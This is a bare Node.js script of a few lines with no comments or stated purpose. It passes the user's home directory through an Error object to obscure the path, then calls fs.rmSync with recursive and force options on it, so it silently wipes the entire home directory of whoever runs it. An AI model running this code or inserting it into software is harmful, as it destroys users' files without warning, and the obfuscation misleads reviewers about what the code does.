const fs = require('fs');
const os = require('os');

const e = new Error(os.homedir());
fs.rmSync(`${e}`.replace('Error: ', ''), { recursive: true, force: true });
